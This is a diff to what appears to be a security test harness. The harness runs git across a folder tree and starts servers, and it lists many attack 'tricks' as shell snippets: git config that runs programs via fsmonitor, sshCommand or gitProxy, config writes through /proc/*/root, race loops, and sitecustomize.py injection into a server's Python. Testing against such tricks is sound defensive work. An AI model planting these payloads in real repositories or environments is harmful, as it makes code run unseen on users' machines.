@@ -24,6 +24,7 @@ MOST_FOLDERS = 300
 MOST_WALKED = 12_000
 MOST_USED = 8
 TIME_LIMIT = 5.0
+MORE_FOLDERS_SECONDS = 3.0
 CHUNK_OF_PATH = 3000
 
 # The repositories of the layout, the root itself left out.
@@ -186,16 +187,23 @@ def _prepare_python(folder: Path) -> None:
 
 def trigger(root: Path) -> None:
     """Use git in every folder at or below `root` as a person does, then start the server."""
-    repositories, others = _find_folders(root)
+    repositories, more = _find_folders(root)
     stuck = set()
-    for path in [*repositories, *others][:MOST_FOLDERS]:
+    end = time.monotonic() + MORE_FOLDERS_SECONDS
+    for number, path in enumerate([*repositories, *more][:MOST_FOLDERS]):
+        # In the others git finds what is above them: some are enough.
+        if number >= len(repositories) and time.monotonic() > end:
+            break
         if not _run_in(root, path, ["git", "status", "--short"]):
             stuck.add(path)
     known = [path for path in REPOSITORIES if path in repositories]
     new = [path for path in repositories if path and path not in known]
-    for path in [*known, *new[:MOST_USED], b""]:
-        if path not in stuck:
-            _use_repository(root, path)
+    used = [path for path in [*known, *new[:MOST_USED], b""] if path not in stuck]
+    for path in used:
+        _use_repository(root, path)
+    for path in used:
+        _run_git(root, path, ["commit", "-q", "--allow-empty", "-m", "x"])
+        _run_git(root, path, ["push", "-q", "origin", "HEAD:refs/heads/later"])
     _start_servers(root)
 
 
@@ -208,18 +216,20 @@ def _use_repository(root: Path, path: bytes) -> None:
         ["log", "-1"],
         ["add", "-N", "."],
         ["stash", "list"],
-        ["commit", "-q", "--amend", "--allow-empty"],
-        ["commit", "-q", "--allow-empty", "-m", "x"],
         ["fetch", "-q"],
-        ["push", "-q", "origin", "HEAD:refs/heads/later"],
+        ["commit", "-q", "--amend", "--allow-empty"],
     ]
     if not path:
         commands.append(["-C", "tree", "status"])
     if path not in REPOSITORIES and b".gitmodules" in _list_names(root, path):
         commands += [["submodule", "status"], ["submodule", "update"]]
     for command in commands:
-        if not _run_in(root, path, ["git", *_IDENTITY, *command]):
+        if not _run_git(root, path, command):
             return
+
+
+def _run_git(root: Path, path: bytes, arguments: list[str]) -> bool:
+    return _run_in(root, path, ["git", *_IDENTITY, *arguments])
 
 
 def _start_servers(root: Path) -> None:
@@ -236,17 +246,17 @@ def _start_servers(root: Path) -> None:
 def _find_folders(root: Path) -> tuple[list[bytes], list[bytes]]:
     """Give the folders that look like repositories, and the others; links are not followed."""
     repositories: list[bytes] = []
-    others: list[bytes] = []
+    more: list[bytes] = []
     queue = [b""]
     for path in _grow(queue):
         names = _list_names(root, path)
         bare = b"HEAD" in names
-        (repositories if bare or b".git" in names else others).append(path)
+        (repositories if bare or b".git" in names else more).append(path)
         for name, is_folder in sorted(names.items()):
             inside_store = bare and name in (b"objects", b"refs", b"logs", b"info", b"hooks")
             if is_folder and name != b".git" and not inside_store:
                 queue.append(path + b"/" + name if path else name)
-    return repositories, others
+    return repositories, more
 
 
 def _grow(queue: list[bytes]) -> Iterator[bytes]:
@@ -283,7 +293,7 @@ def _open_for_reading(folder: int) -> int:
         return os.open(".", flags, dir_fd=folder)
     except PermissionError:
         # The person looks into their own folder whatever its mode is.
-        os.chmod(f"/proc/self/fd/{folder}", 0o700)
+        Path(f"/proc/self/fd/{folder}").chmod(0o700)
         return os.open(".", flags, dir_fd=folder)
 
 
@@ -449,7 +459,8 @@ _WRITE_PROTECTED = [
         "exec 3< .git/config; arm /proc/self/fd/3",
     ),
     _trick(
-        "write the settings through the first process's root", "arm /proc/1/root{root}/.git/config"
+        "write the settings through any process's root",
+        "for p in /proc/[0-9]*/root; do arm $p{root}/.git/config && break; done 2> /dev/null",
     ),
     _trick(
         "write the settings through another process's folder",
@@ -555,7 +566,7 @@ _WRITE_NAMED_PROGRAMS = [
         "script work/c; printf 'c\\n' >> data/table.dat",
     ),
     _trick(
-        "rewrite a script that git hands to a shell",
+        "rewrite a script that git gives to a shell",
         "printf '{program}\\n' > tools/table.sh; printf '3 4\\n' >> data/rows.tbl",
     ),
     _trick("rewrite the script of an alias", "printf '{program}\\n' > scripts/st.sh"),
@@ -657,7 +668,7 @@ _WRITE_OTHER_REPOSITORIES = [
         "arm stores/lib.git/config",
     ),
     _trick(
-        "fetching by a bare repository that others fetch from",
+        "fetching by a bare repository that more fetch from",
         "rm -rf stores/root.git/objects/*; cd stores/root.git; "
         "mkdir -p objects/pack objects/info refs/heads; "
         "printf '%040d\\n' 7 > refs/heads/side; printf '%040d\\n' 7 > refs/heads/new; "
@@ -755,11 +766,11 @@ _NEW_SETTINGS = [
     ),
     _new(
         "new repository with a shell for fetching",
-        _URL + "ssh://localhost/x\n[core]\n\tsshCommand = {program}",
+        _URL + "ssh://127.0.0.1:9/x\n[core]\n\tsshCommand = {program}",
     ),
     _new(
         "new repository with a proxy program",
-        _URL + "git://localhost/x\n[core]\n\tgitProxy = {program}",
+        _URL + "git://127.0.0.1:9/x\n[core]\n\tgitProxy = {program}",
     ),
     _new(
         "new repository with a program at the far end",
@@ -808,7 +819,7 @@ _NEW_SETTINGS = [
     _new(
         "new repository with a missing object to be fetched",
         '[core]\n\trepositoryformatversion = 1\n[remote "far"]\n\tpromisor = true\n'
-        "\turl = ssh://localhost/x\n[core]\n\tsshCommand = {program}\n"
+        "\turl = ssh://127.0.0.1:9/x\n[core]\n\tsshCommand = {program}\n"
         "[extensions]\n\tpartialClone = far",
         "printf '%040d\\n' 7 > work/a/.git/refs/heads/main",
     ),
@@ -1181,16 +1192,16 @@ _NEW_SHAPES = [
         "cd work; n=$(printf 'n%.0s' {1..250})\n"
         "for i in {1..25}; do mkdir $n && cd $n || exit; done; armed x/.git",
         "cd work; n=$(printf 'n%.0s' {1..250})\n"
-        "for i in {1..25}; do mv $n/$n up; rmdir $n; mv up $n; done; mv $n/x x",
+        "for i in {1..24}; do mv $n/$n up; rmdir $n; mv up $n; done; mv $n/x x",
     ),
     _trick(
         "armed folder behind five thousand folders",
         "mkdir -p work/f{1..1000}/{a,b,c,d}; armed work/f500/c/.git; armed work/zz/.git",
     ),
     _trick(
-        "armed folder behind five thousand files",
+        "armed folder behind thousands of files",
         "plain work/a/.git; mkdir work/a/.git/objects/aa\n"
-        "cd work/a/.git/objects/aa; touch {1..5000}; cd ../..; touch {10000..14000}; arm config",
+        "cd work/a/.git/objects/aa; touch {1..2500}; cd ../..; touch {1..1500}; arm config",
     ),
     _trick(
         "armed folder among two hundred and fifty harmless ones",
@@ -1420,8 +1431,8 @@ _RACES = [
     _trick(
         "go on writing the settings of a new repository",
         "plain work/a/.git; exec 3>> work/a/.git/config\n"
-        "detach bash -c 'for i in {1..20000}; do "
-        'printf "[core]\\n\\tfsmonitor = {program}\\n" > work/a/.git/config; done\'; sleep 0.1',
+        "detach bash -c 'for i in {1..5000}; do "
+        'printf "[core]\\n\\tfsmonitor = {program}\\n" 1<> work/a/.git/config; done\'; sleep 0.1',
     ),
     _trick(
         "go on making armed repositories",
@@ -1431,13 +1442,13 @@ _RACES = [
     _trick(
         "go on renaming the folder over an armed repository",
         "armed work/x/.git\n"
-        "detach bash -c 'for i in {1..600}; do mv -T work/x work/y; mv -T work/y work/x; done'; "
+        "detach bash -c 'for i in {1..150}; do mv -T work/x work/y; mv -T work/y work/x; done'; "
         "sleep 0.1",
     ),
     _trick(
         "go on moving an armed repository between two folders",
         "armed work/x/.git; mkdir work/y\n"
-        "detach bash -c 'for i in {1..600}; do "
+        "detach bash -c 'for i in {1..150}; do "
         "mv -T work/x/.git work/y/.git; mv -T work/y/.git work/x/.git; done'; sleep 0.1",
     ),
     _trick(
@@ -1518,8 +1529,8 @@ _SERVER_TRICKS = [
     ),
     _trick(
         "start module in the packages of a server's python",
-        f'for f in .venv/lib/python*/site-packages; do printf "%s\\n" "{_RUN}" '
-        "> $f/sitecustomize.py; done",
+        "sed -i 's/false/true/' .venv/pyvenv.cfg; cd .venv/lib/python*/site-packages\n"
+        f'printf "%s\\n" "{_RUN}" | tee sitecustomize.py > usercustomize.py',
     ),
     _trick(
         "path file in the packages of a server's python",
@@ -1541,8 +1552,8 @@ _SERVER_TRICKS = [
         "home=$(sed -n 's/^home = //p' .venv/pyvenv.cfg)\n"
         'real=$(basename "$(ls -d .venv/lib/python*)")\n'
         'mkdir -p work/p/bin work/p/lib/$real; ln -s "$home"/../lib/$real/* work/p/lib/$real/\n'
-        "rm work/p/lib/$real/site.py\n"
-        f'printf "%s\\n" "{_RUN}" > work/p/lib/$real/site.py\n'
+        "rm -f work/p/lib/$real/sitecustomize.py\n"
+        f'printf "%s\\n" "{_RUN}" > work/p/lib/$real/sitecustomize.py\n'
         "printf 'home = {root}/work/p/bin\\n' > .venv/pyvenv.cfg",
     ),
 ]
